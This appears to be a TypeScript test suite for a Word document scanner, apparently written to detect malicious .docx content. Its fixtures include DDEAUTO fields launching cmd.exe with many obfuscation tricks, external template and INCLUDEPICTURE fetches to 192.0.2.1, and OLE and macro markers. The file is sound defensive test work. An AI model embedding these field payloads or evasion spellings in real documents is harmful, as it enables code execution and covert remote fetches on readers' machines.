import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { strToU8, zipSync } from 'fflate'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { unsafeIn } from '../../server/documents/unsafe.ts'

let folder: string
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'xzx-spellings-'))
})
afterAll(() => rmSync(folder, { recursive: true, force: true }))

let count = 0
function look(content: Uint8Array): Promise<string | null> {
  const path = join(folder, `${count++}.docx`)
  writeFileSync(path, content)
  return unsafeIn({ path, kind: 'word' })
}

const head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const spaces = `xmlns:w="${word}" xmlns:r="${office}" xmlns:mc="urn:mc" xmlns:x="urn:x"`
const kinds = (more: string) =>
  `${head}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${more}</Types>`
const package_ = 'http://schemas.openxmlformats.org/package/2006/relationships'
const relations = (inside: string) => `${head}<Relationships xmlns="${package_}">${inside}</Relationships>`

interface Made {
  readonly body?: string
  readonly rels?: string
  readonly types?: string
  readonly more?: Readonly<Record<string, string | Uint8Array>>
}

const docx = ({ body = '', rels, types = '', more = {} }: Made) =>
  zipSync(
    Object.fromEntries(
      Object.entries({
        '[Content_Types].xml': kinds(types),
        '_rels/.rels': relations(`<Relationship Id="r1" Type="${office}/officeDocument" Target="word/document.xml"/>`),
        'word/document.xml': `${head}<w:document ${spaces}><w:body>${body}<w:p><w:r><w:t>来信</w:t></w:r></w:p></w:body></w:document>`,
        ...(rels === undefined ? {} : { 'word/_rels/document.xml.rels': rels }),
        ...more,
      }).map(([name, said]) => [name, typeof said === 'string' ? strToU8(said) : said]),
    ),
  )

const run = (inside: string) => `<w:r>${inside}</w:r>`
const told = (inside: string) => run(`<w:instrText xml:space="preserve">${inside}</w:instrText>`)
const sign = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`)
/** A field as Word writes it. */
const field = (inside: string, shows = '1') =>
  `${sign('begin')}${inside}${sign('separate')}${run(`<w:t>${shows}</w:t>`)}${sign('end')}`
const p = (inside: string) => `<w:p>${inside}</w:p>`

const starts = '含有启动程序的域'
const fetches = '打开时会从外部网址取内容'
const objects = '含有嵌入的对象'
const macros = '含有宏'
const unclear = '里面的内容写法不合规范，无法核对'

describe('a field that begins a program is found', () => {
  const spellings: Readonly<Record<string, string>> = {
    'in CDATA': told('<![CDATA[DDEAUTO c:\\\\cmd.exe "/k calc"]]>'),
    'half in CDATA': told('DD<![CDATA[EAU]]>TO c:\\\\cmd.exe'),
    'with a remark in the word': told('DD<!-- -->EAUTO c:\\\\cmd.exe'),
    'with an instruction to programs in the word': told('DD<?x y?>EAUTO c:\\\\cmd.exe'),
    'with a reference of eight digits': told('DDE&#x00000041;UTO c:\\\\cmd.exe'),
    'with a decimal reference of nine digits': told('DDE&#000000065;UTO c:\\\\cmd.exe'),
    'between single quotes': `<w:fldSimple w:instr='DDEAUTO c:\\\\cmd.exe "/k calc"'>${run('<w:t>x</w:t>')}</w:fldSimple>`,
    'with references in an attribute': '<w:fldSimple w:instr="&#x00000044;DE c:\\\\cmd"/>',
    'with blanks around the sign of equality': '<w:fldSimple w:instr\n=\n"DDE c:\\\\cmd"/>',
    'under a prefix with a dash': `<w-x:r xmlns:w-x="${word}"><w-x:instrText>DDEAUTO c:\\\\cmd</w-x:instrText></w-x:r>`,
    'under no prefix': `<r xmlns="${word}"><instrText>DDEAUTO c:\\\\cmd</instrText></r>`,
    'split over runs': field(`${told('D')}${told('DE')}${run('<w:rPr><w:b/></w:rPr>')}${told('AUTO c:\\\\cmd')}`),
    'split over paragraphs': `${sign('begin')}${told('DDE')}</w:p><w:p>${told('AUTO c:\\\\x')}${sign('end')}`,
    'behind another field without a blank': `${field(told('PAGE'))}${field(told('DDEAUTO c:\\\\x'))}`,
    'in what another field shows': field(told('TOC'), `</w:t></w:r>${field(told('DDE c:\\\\x'))}<w:r><w:t>`),
    'in what another field is told': field(`${told('IF 1 = 1 ')}${field(told('DDEAUTO c:\\\\x'))}`),
    'out of what another one shows': field(`${told('DD')}${field(told('QUOTE'), 'EAUTO')}${told(' c:\\\\x')}`),
    'where what was taken away stands between': field(
      `${told('DD')}<w:del><w:r><w:delInstrText>zz</w:delInstrText></w:r></w:del>${told('EAUTO c:\\\\x')}`,
    ),
    'taken away as a whole': `<w:del>${field('<w:r><w:delInstrText>DDEAUTO c:\\\\x</w:delInstrText></w:r>')}</w:del>`,
    'without an end': `${sign('begin')}${told('DDEAUTO c:\\\\x')}`,
    'without a beginning': told('DDEAUTO c:\\\\x'),
  }
  test.each(Object.entries(spellings))('%s', async (_, inside) => {
    expect(await look(docx({ body: p(inside) }))).toBe(starts)
  })

  test('words put together from the numbers of their signs are refused', async () => {
    const made = field(`${told('D')}${field(told('QUOTE 68 69'))}${told(' c:')}`)
    expect(await look(docx({ body: p(made) }))).toBe('含有拼凑出来的域')
    expect(await look(docx({ body: p(field(told('QUOTE "他说"'))) }))).toBeNull()
  })

  test('in whatever part it stands', async () => {
    const part = `<w:ftr ${spaces}>${p(field(told('DDEAUTO c:\\\\x')))}</w:ftr>`
    for (const name of ['word/footer1.xml', 'doc/main.xml', 'word/media/image1.png', 'customXml/item1.xml'])
      expect([name, await look(docx({ more: { [name]: head + part } }))]).toEqual([name, starts])
    const wide = Buffer.from(`\ufeff<?xml version="1.0" encoding="utf-16"?>${part}`, 'utf16le')
    expect(await look(docx({ more: { 'word/footer1.xml': wide } }))).toBe(starts)
  })
})

test.each([
  'INCLUDEPICTURE \\d "http://192.0.2.1/x.png"',
  'INCLUDEPICTURE\t"http://192.0.2.1/x.png" \\* MERGEFORMAT \\d',
  'INCLUDETEXT "\\\\\\\\192.0.2.1\\\\x"',
  'INCLUDETEXT \\c XML "//192.0.2.1/x"',
  'LINK Excel.Sheet.8 "\\\\\\\\192.0.2.1\\\\x.xls" "" \\a \\p',
  'LINK htmlfile https://192.0.2.1/x',
  'IMPORT "http://192.0.2.1/x.png"',
  'RD "http://192.0.2.1/x.doc"',
  ' rd \\f "http://192.0.2.1/x.doc"',
  'DATABASE \\d "\\\\\\\\192.0.2.1\\\\x.mdb" \\c "DSN" \\s "select 1"',
])('a field that fetches something is found: %s', async (instruction) => {
  expect(await look(docx({ body: p(field(told(instruction))) }))).toBe(fetches)
  expect(await look(docx({ body: p(field(told(`<![CDATA[${instruction}]]>`))) }))).toBe(fetches)
})

test('a field that fetches what another one comes to counts as fetched', async () => {
  const inner = field(told('DOCPROPERTY 图'), '图')
  expect(await look(docx({ body: p(field(`${told('INCLUDEPICTURE ')}${inner}`)) }))).toBe(fetches)
})

describe('a relationship is read as it is meant', () => {
  const template = (type: string, target: string, mode = 'TargetMode="External"') =>
    relations(`<Relationship Id="r1" ${type} ${target} ${mode}/>`)
  const type = `Type="${office}/attachedTemplate"`
  const target = 'Target="http://192.0.2.1/t.dotm"'
  const spellings: Readonly<Record<string, string>> = {
    'a padded reference in the target': template(type, 'Target="&#x00000068;ttp://192.0.2.1/t.dotm"'),
    'a padded decimal reference in the target': template(type, 'Target="&#000000104;ttp://192.0.2.1/t.dotm"'),
    'a padded reference in the mode': template(type, target, 'TargetMode="&#x00000045;xternal"'),
    'single quotes': template(type.replaceAll('"', "'"), target.replaceAll('"', "'"), "TargetMode='External'"),
    'lines between': template(type, target.replace('=', '\n=\n')),
    'two slashes of either kind': template(type, 'Target="/\\192.0.2.1\\s\\t.dotm"'),
    'a blank that is not seen': template(type, 'Target="\u00a0http://192.0.2.1/t.dotm"'),
    'a line end in the target': template(type, 'Target="ht&#10;tp://192.0.2.1/t.dotm"'),
    'signs of an address': template(type, 'Target="%68ttp://192.0.2.1/t.dotm"'),
    'a second type under a prefix': template(`${type} x:Type="a/hyperlink" xmlns:x="u"`, target),
    'a second type in small letters': template(`type="a/hyperlink" ${type}`, target),
    'no mode': template(type, target, ''),
    'a frame': template(`Type="${office}/frame"`, target),
    'a picture': template(`Type="${office}/image"`, target),
    'a prefix with a dash': `<a-b:Relationships xmlns:a-b="${package_}"><a-b:Relationship Id="r1" ${type} ${target} TargetMode="External"/></a-b:Relationships>`,
  }
  test.each(Object.entries(spellings))('%s', async (_, rels) => {
    expect(await look(docx({ rels }))).toBe(fetches)
  })

  test('objects and macros, by the relationship or by the kind', async () => {
    const one = (said: string) => relations(`<Relationship Id='r1' ${said}/>`)
    const microsoft = 'http://schemas.microsoft.com/office/2006/relationships'
    for (const [made, says] of [
      [{ rels: one(`Type='${office}/aFChunk' Target='chunk.xml'`) }, objects],
      [{ rels: one(`Type='${office}/package' Target='embeddings/a.xlsx'`) }, objects],
      [{ rels: one(`Type = '${office}/oleObj&#x00000065;ct' Target='a.xml'`) }, objects],
      [{ rels: one(`Type="${microsoft}/vb&#x00000061;Project" Target="data1.xml"`) }, macros],
      [{ types: '<Override PartName="/word/chunk.xml" ContentType="text/html"/>' }, objects],
      [
        { types: "<Override PartName='/a.xml' ContentType='application/vnd.ms-word.m&#x00000061;croEnabled'/>" },
        macros,
      ],
      [{ body: '<w:altChunk r:id="r1"/>' }, objects],
      [{ body: p(run('<w:object><o:OLEObject xmlns:o="urn:o" Type="Link"/></w:object>')) }, objects],
      [{ body: p(run('<v:imagedata xmlns:v="urn:v" src="http://192.0.2.1/x.png"/>')) }, fetches],
      [
        { more: { 'xl/externalLinks/externalLink1.xml': "<externalLink><ddeLink ddeService='cmd'/></externalLink>" } },
        starts,
      ],
    ] as const satisfies readonly (readonly [Made, string])[])
      expect([await look(docx(made)), JSON.stringify(made)]).toEqual([says, JSON.stringify(made)])
  })
})

describe('what readers would read in different ways is not taken', () => {
  const spellings: Readonly<Record<string, Made>> = {
    'a tag that is not closed': { body: '<w:p>' },
    'an attribute that stands twice': { rels: relations('<Relationship Id="a" Id="b"/>') },
    'an attribute without quotes': { rels: relations('<Relationship Id=a/>') },
    'a reference that nothing stands for': { body: p(run('<w:t>&x;</w:t>')) },
    'words of its own': { more: { 'word/a.xml': '<!DOCTYPE a [<!ENTITY x "DDE">]><a>&x;</a>' } },
    'two roots': { more: { 'word/a.xml': '<a/><a/>' } },
    'nothing at all': { more: { 'word/a.xml': '' } },
    'elements in an instruction': { body: p(told('DD<x:y>zz</x:y>EAUTO')) },
    'an instruction of another language between': {
      body: p(field(`${told('DD')}<x:instrText>zz</x:instrText>${told('EAUTO')}`)),
    },
    'an instruction in two ways': {
      body: p(field(`${told('DD')}<mc:AlternateContent>${told('zz')}</mc:AlternateContent>${told('EAUTO')}`)),
    },
    'an instruction that ends in one way alone': {
      body: p(
        `${sign('begin')}${told('DD')}<mc:AlternateContent>${sign('separate')}</mc:AlternateContent>${told('EAUTO')}`,
      ),
    },
    'XML under the name of a picture': {
      types: '<Override PartName="/word/media/a.png" ContentType="application/vnd.main+xml"/>',
    },
  }
  test.each(Object.entries(spellings))('%s', async (_, made) => {
    expect(await look(docx(made))).toBe(unclear)
  })

  test('letters that are not read here', async () => {
    for (const part of ['<?xml version="1.0" encoding="utf-7"?><a/>', Uint8Array.of(0x3c, 0x61, 0xff, 0x2f, 0x3e)])
      expect(await look(docx({ more: { 'word/a.xml': part } }))).toBe('文字编码不能检查')
  })

  test('a list that names other files than stand in the zip', async () => {
    const plain = Buffer.from(docx({}))
    const renamed = Buffer.from(plain)
    renamed.write('x', renamed.lastIndexOf('word/document.xml'))
    expect(await look(renamed)).toBe(unclear)
    // one file within another: a list leads to the inner one
    const inner = Buffer.from(zipSync({ 'word/footer.xml': strToU8('<a/>') }, { level: 0 }))
    const hiding = Buffer.from(
      zipSync({
        '[Content_Types].xml': strToU8(kinds('')),
        'word/a.png': [Buffer.concat([Buffer.from('89504e4700000000', 'hex'), inner]), { level: 0 }],
      }),
    )
    expect(await look(hiding)).toBeNull()
    hiding.writeUInt32LE(hiding.indexOf(inner), hiding.lastIndexOf('word/a.png') - 4)
    expect(await look(hiding)).toBe(unclear)
  })

  test('more than any document has', async () => {
    for (const part of [
      `<a ${Array.from({ length: 2000 }, (_, i) => `a${i}=""`).join(' ')}/>`,
      `${'<a>'.repeat(2000)}${'</a>'.repeat(2000)}`,
      `<w:p xmlns:w="${word}">${sign('begin')}${told('a'.repeat(70_000))}</w:p>`,
      `<w:p xmlns:w="${word}">${`${sign('begin')}${told('P')}`.repeat(50)}</w:p>`,
      `<a><!--${'x'.repeat(5_000_000)}--></a>`,
    ])
      expect([await look(docx({ more: { 'word/a.xml': part } })), part.slice(0, 40)]).toEqual([
        '展开后过大',
        part.slice(0, 40),
      ])
  })
})

test('what is only to be read is taken: links, numbers of pages, dates, contents, pictures, words about these things', async () => {
  const link = (target: string) =>
    `<Relationship Id="r2" Type="${office}/hyperlink" Target="${target}" TargetMode="External"/>`
  const entry = `<w:hyperlink w:anchor="_Toc1">${run('<w:t>一</w:t>')}${field(told(' PAGEREF _Toc1 \\h '))}</w:hyperlink>`
  const drawing =
    '<mc:AlternateContent><mc:Choice Requires="x"><w:drawing><x:txbx><w:txbxContent>' +
    `${p(field(told(' PAGE ')))}</w:txbxContent></x:txbx></w:drawing></mc:Choice><mc:Fallback><w:pict/></mc:Fallback></mc:AlternateContent>`
  const taken: readonly Made[] = [
    { rels: relations(link('http://www.gov.cn/link?import=database')) },
    { rels: relations(link('mailto:a@b.cn')) },
    {
      rels: relations(`<Relationship Id="r1" Type="${office}/image" Target="media/image1.png"/>`),
      more: { 'word/media/image1.png': Buffer.from('89504e470d0a1a0a00', 'hex') },
    },
    { body: p(field(told(' PAGE   \\* MERGEFORMAT '))) },
    { body: p(field(told(' DATE \\@ "yyyy年M月d日 HH:mm" '))) },
    { body: p(field(told(' HYPERLINK "https://a.cn/dde/import/LINK" \\o "//" '), '链接')) },
    { body: p(`<w:fldSimple w:instr=" NUMPAGES ">${run('<w:t>3</w:t>')}</w:fldSimple>`) },
    { body: p(field(told(' TOC \\o "1-3" \\h \\z \\u '), `</w:t></w:r></w:p>${p(entry).repeat(300)}<w:p><w:r><w:t>`)) },
    { body: p(field(`${told(' IF ')}${field(told('PAGE'))}${told(' = "1" "首页：" "//" ')}`)) },
    { body: p(field(told(' SEQ 图 \\* ARABIC '), `</w:t>${drawing}<w:t>`)) },
    { body: p(run('<w:t>DDEAUTO、macroEnabled、oleObject 和 INCLUDEPICTURE "http://a.cn/x.png" 是什么</w:t>')) },
    { body: '<?mso-application progid="Word.Document"?><!-- 说明 -->' },
    { more: { 'customXml/item1.xml': Buffer.from('\ufeff<?xml version="1.0" encoding="UTF-16"?><a/>', 'utf16le') } },
  ]
  for (const made of taken)
    expect([await look(docx(made)), JSON.stringify(made).slice(0, 200)]).toEqual([
      null,
      JSON.stringify(made).slice(0, 200),
    ])
})
